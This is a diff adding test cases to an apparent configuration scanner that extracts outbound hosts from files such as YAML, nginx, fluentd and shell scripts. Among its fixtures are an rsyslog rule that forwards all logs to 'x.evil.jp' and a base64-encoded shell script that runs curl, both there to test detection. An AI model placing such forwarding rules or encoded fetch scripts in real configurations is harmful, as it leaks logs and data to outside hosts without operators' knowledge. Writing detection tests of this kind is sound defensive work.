@@ -37,7 +37,7 @@ SECRET = "kubernetes:core/v1:Secret"
         ("fluent-bit.yaml", "pipeline:\n  outputs: [{name: es, host: x.example}]", ["x.example"]),
         ("a.yaml", "upstream_servers: [{nodes: [{host: '2001:db8::1'}]}]", ["2001:db8::1"]),
         ("a.env", "export ENDPOINT=https://x.example", ["x.example"]),
-        ("a.rb", 'config["url"] => "https://x.example"', []),
+        ("a.rb", 'config["url"] => "https://x.example"', ["x.example"]),
         ("a.xml", '<a><b url="https://x.example"/><c> https://y.example </c></a>',
          ["x.example", "y.example"]),
         ("run", "#!/bin/sh\ncurl x.example", ["x.example"]),
@@ -46,6 +46,25 @@ SECRET = "kubernetes:core/v1:Secret"
         ("a.yaml", "conf: |\n  [a]\n  url = https://x.example\n", ["x.example"]),
         ("a.yaml", "links: [{url: https://x.example}]", ["x.example"]),
         ("a.yaml", "targets: [{title: x, url: https://x.example}]", ["x.example"]),
+        ("BROKERS", "x.example:9092,y.example:9092", ["x.example", "y.example"]),
+        ("a.yaml", "exporters: {otlp: {endpoint: 'x.example.com:4317'}}", ["x.example.com"]),
+        ("a.yaml", "static_configs: [{targets: ['x.example.com', 'y.svc:1']}]", ["x.example.com"]),
+        ("a.yaml", "socket_address: {address: 8.8.8.8, port_value: 443}", ["8.8.8.8"]),
+        ("a.ini", "smtp_host = x.example.com\n", ["x.example.com"]),
+        ("a.toml", 'serverAddr = "x.example.com"\n', ["x.example.com"]),
+        ("a.conf", "upstream b {\n  server x.example.com:443;\n}", ["x.example.com"]),
+        ("a.cfg", "backend b\n  server s1 x.example.com:443 ssl\n", ["x.example.com"]),
+        ("a.conf", "*.* @@x.evil.jp:514\n", ["x.evil.jp"]),
+        ("a.ovpn", "client\nremote x.example 1194\n", ["x.example"]),
+        ("resolv.conf", "nameserver 8.8.8.8\n", ["8.8.8.8"]),
+        ("fluent.conf", "<match **>\n  @type forward\n  <server>\n    host x.example.com\n",
+         ["x.example.com"]),
+        ("fluent.conf", "<match **>\n  @type http\n  endpoint https://x.example/a\n</match>",
+         ["x.example"]),
+        ("nginx.conf", "location / { proxy_pass https://x.example; }", ["x.example"]),
+        ("run.py", "import requests\nrequests.get('https://x.example')", ["x.example"]),
+        ("run.js", "// https://y.example\nfetch('https://x.example')", ["x.example"]),
+        ("url", "git@x.example:team/app.git", ["x.example"]),
         ("list.txt", "- https://x.example\n- https://y.example", ["x.example", "y.example"]),
     ],
 )  # fmt: skip
@@ -77,6 +96,12 @@ def test_what_a_program_would_call(key, text, hosts):
         ("a.ini", "[database]\nhost x.example"),
         ("a.conf", "[OUTPUT]\n  # Host x.example\n  Host ${LOG_HOST}\n[PARSER]\n  host x.example"),
         ("a.yaml", "pipeline: {inputs: [{name: tcp, host: x.example}], outputs: [{host: '${H}'}]}"),
+        ("a.yaml", "host: x.example.com\ndomain: x.example.com\nserver_name: x.example.com"),
+        ("a.yaml", "listen_address: 8.8.8.8\nexternal_endpoint: x.example.com"),
+        ("a.yaml", "version: 8.8.8.8\nmask: 255.255.255.0\nimage: x.example.com:5000/app"),
+        ("a.yaml", "email: somebody@x.example.com\nendpoint: db.prod:5432"),
+        ("a.conf", "# server x.example.com;\nserver_name x.example.com;"),
+        ("a.txt", "server x.example.com is down"),
         ("a.yaml", "a: s3://bucket/key\nb: http://www.w3.org/2001/XMLSchema"),
     ],
 )
@@ -172,3 +197,9 @@ def test_schemas_in_objects_of_controllers_are_left_out_too():
     assert broken("kubernetes:corp.example/v1:It", {"spec": spec}, servicer=judged) == set()
     spec = {**spec, "server": "https://x.example"}
     assert broken("kubernetes:corp.example/v1:It", {"spec": spec}, servicer=judged) == {"CN-200"}
+
+
+def test_binary_data_is_read_as_a_secret_is():
+    script = base64.b64encode(b"#!/bin/sh\ncurl https://x.example\n").decode()
+    assert broken(CONFIG_MAP, {"binaryData": {"run": script}}) == {"CN-217"}
+    assert broken(CONFIG_MAP, {"binaryData": {"a.bin": "AAEC"}}) == set()
